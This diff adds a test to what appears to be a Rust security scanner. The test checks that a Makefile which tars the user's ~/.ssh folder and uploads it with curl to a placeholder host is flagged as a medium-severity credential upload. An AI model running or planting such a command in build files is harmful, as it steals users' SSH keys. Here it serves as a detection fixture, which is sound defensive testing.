@@ -375,6 +375,19 @@ fn pipe_to_shell_is_medium_in_a_script_and_low_in_documentation() {
         let r = scan_bytes(dir.path(), &format!("s{i}.sh"), text.as_bytes());
         assert_eq!(grade(&r), Some(Severity::Medium), "{text}");
     }
+    // A credential folder piped to a network client (tester t14 bd16), medium outside a script.
+    let mk = scan_bytes(
+        dir.path(),
+        "Makefile",
+        b"all:\n\t@tar cz $(HOME)/.ssh 2>/dev/null | curl -s --data-binary @- https://c.example.invalid/k\n",
+    );
+    assert!(
+        mk.findings
+            .iter()
+            .any(|f| f.message.contains("yara-credential-upload") && f.severity == Severity::Medium),
+        "{:?}",
+        mk.findings
+    );
     // A Makefile nothing is known to run stays low.
     let mk = scan_bytes(
         dir.path(),
